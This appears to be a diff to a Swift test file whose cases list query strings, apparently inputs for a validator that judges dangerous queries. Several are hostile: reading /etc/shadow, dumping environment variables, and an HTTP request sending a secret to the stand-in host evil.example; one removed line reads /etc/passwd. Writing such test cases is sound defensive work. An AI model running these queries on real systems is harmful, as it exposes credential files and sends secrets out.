@@ -125,7 +125,6 @@ extension VerdictCase {
         LET f(x=read_file(filename='/etc/shadow')) = x SELECT f() FROM scope()
         SELECT { SELECT * FROM environ() } AS E FROM scope()
         SELECT pk_decrypt(data='x') FROM scope()
-        SELECT (1, 2)[read_file(filename='/etc/passwd')] FROM scope()
         SELECT * FROM http_client(url='http://evil.example/?x=secret', method='GET')
         EXPLAIN SELECT * FROM orgs()
         SELECT * FROM `pslist`()
